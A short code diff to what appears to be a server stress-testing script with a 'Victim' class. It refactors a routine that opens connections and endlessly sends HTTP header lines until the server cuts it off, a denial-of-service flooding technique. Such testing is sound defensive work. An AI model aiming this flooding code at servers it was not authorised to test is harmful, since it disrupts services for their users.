@@ -62,10 +62,11 @@ class Victim:
         return stream
 
 
-def until_cut_off(stream: socket.socket, sent: bytes) -> None:
+def until_cut_off(stream: socket.socket, sent: bytes, first: bytes = b"") -> None:
     """The same bytes again and again, whatever the server says."""
     stream.settimeout(1)
     try:
+        stream.sendall(first)
         while True:
             stream.sendall(sent)
     except OSError:
@@ -92,9 +93,8 @@ def commands(victim: Victim) -> None:
 
 def headers(victim: Victim) -> None:
     while True:
-        stream = victim.connect()
-        stream.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n")
-        until_cut_off(stream, b"more: and more\r\n" * MANY)
+        first = b"GET / HTTP/1.1\r\nhost: x\r\n"
+        until_cut_off(victim.connect(), b"more: and more\r\n" * MANY, first)
 
 
 def silence(victim: Victim) -> None:
